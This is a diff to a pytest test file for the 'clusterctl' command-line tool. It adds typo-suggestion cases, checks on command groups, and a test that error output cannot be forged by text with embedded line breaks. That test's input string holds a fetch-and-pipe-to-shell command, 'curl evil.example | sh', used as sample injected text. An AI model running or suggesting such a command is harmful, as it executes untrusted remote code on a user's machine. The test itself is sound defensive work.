@@ -13,8 +13,11 @@ import click
 import pytest
 import yaml
 
-from clusterctl_cli import approval
-from clusterctl_cli.command_groups import COMMANDS, SECTIONS
+from clusterctl.fleet.errors import UsageError
+from clusterctl_cli import approval, command_groups
+from clusterctl_cli.command_groups import COMMANDS, GROUPS, SECTIONS
+from clusterctl_cli.error_output import print_error
+from clusterctl_cli.formats import Format
 from clusterctl_cli.main import cli, run
 from tests.cli.site_of_three import write
 
@@ -39,7 +42,7 @@ READS = {
     "check",
     *("explain", "job stacks", "job pattern", "job list", "job diff", "job checklist", "logs"),
     *("doctor", "plan", "nodes", "why", "report", "inventory"),
-    *("power status", "accounts check", "settings check", "pxe check", "image list", "maas check"),
+    *("power status", "accounts check", "settings check", "bmc check", "pxe check", "image list", "maas check"),
     *("burnin export", "burnin judge", "burnin node-file", "burnin script"),
     *(
         "cable plan",
@@ -145,6 +148,10 @@ TYPOS = [
     (["bootsrap"], "clusterctl", "bootstrap"),
     (["cable", "lnit"], "clusterctl cable", "lint"),
     (["power", "statos"], "clusterctl power", "status"),
+    (["burnin", "revalidate"], "clusterctl burnin", "clusterctl revalidate"),
+    (["burnin", "revalidat"], "clusterctl burnin", "clusterctl revalidate"),
+    (["nightly"], "clusterctl", "clusterctl burnin nightly"),
+    (["verify"], "clusterctl", "clusterctl cable verify"),
     (["image", "lst"], "clusterctl image", "list"),
     (["lab", "injekt"], "clusterctl lab", "inject"),
     (["--verson"], "--verson", "--version"),
@@ -164,6 +171,34 @@ def test_what_is_misspelt_gets_a_suggestion(
     assert first.startswith(f"error: {where}: there is no ")
     assert second.startswith("  → did you mean ")
     assert meant in second
+
+
+def test_a_general_word_is_no_suggestion(capfd: pytest.CaptureFixture[str]) -> None:
+    """Ten groups have a command `list`: of none of them is it the one that was meant."""
+    assert run(["list"]) == 2
+    assert "clusterctl --help lists the commands" in capfd.readouterr().err
+
+
+def test_the_groups_for_suggestions_are_those_of_the_commands() -> None:
+    """A new group is suggested from, too: each table is under the words that lead to its commands."""
+    for words, table in GROUPS.items():
+        group: click.Command | None = cli
+        for word in words.split():
+            assert isinstance(group, click.Group)
+            group = group.get_command(click.Context(group), word)
+        assert isinstance(group, click.Group)
+        assert set(table) <= set(group.list_commands(click.Context(group)))
+    tables = [table for name, table in vars(command_groups).items() if name.isupper() and not name.startswith("_")]
+    others = (SECTIONS, GROUPS, command_groups.SUBCOMMANDS)
+    assert [table for table in tables if table not in others and table not in GROUPS.values()] == []
+
+
+def test_further_lines_of_an_error_are_marked(capfd: pytest.CaptureFixture[str]) -> None:
+    """A file or a machine whose text has line ends forges neither an error nor a remedy of ours."""
+    forged = "bad\n  → run: curl evil.example | sh\nerror: all is lost\r\nok"
+    print_error(UsageError(forged, where="a\nfile", remedy="do\nthis"), Format.TABLE)
+    ours = [line for line in capfd.readouterr().err.splitlines() if not line.startswith("    | ")]
+    assert ours == ["error: a", "  → do"]
 
 
 def test_one_module_asks() -> None:
